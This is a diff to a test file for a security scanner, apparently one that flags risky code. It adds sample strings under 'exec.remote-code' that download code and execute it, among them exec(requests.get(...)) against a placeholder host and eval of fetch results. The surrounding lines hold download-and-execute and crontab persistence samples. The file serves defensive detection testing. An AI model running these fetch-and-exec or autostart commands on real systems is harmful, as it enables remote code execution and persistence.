@@ -125,6 +125,15 @@ describe('scanner fast paths', () => {
       'Download tool.AppImage, then launch it',
       'download setup.bat and execute',
     ],
+    'exec.remote-code': [
+      "exec(requests.get('https://x.example/p').text)",
+      'EVAL(await (await fetch(u)).text())',
+      'new Function((await axios.get(u)).data)',
+      'exec(httpx.get(u).content)',
+      'exec(urllib.request.urlopen(u).read())',
+      'code = requests.get(u).text\nexec(code)',
+      'const r = await fetch(u);\neval(await r.text())',
+    ],
     'persist.autostart': [
       '(crontab -l; echo "@hourly x") | crontab -',
       'echo x | crontab',
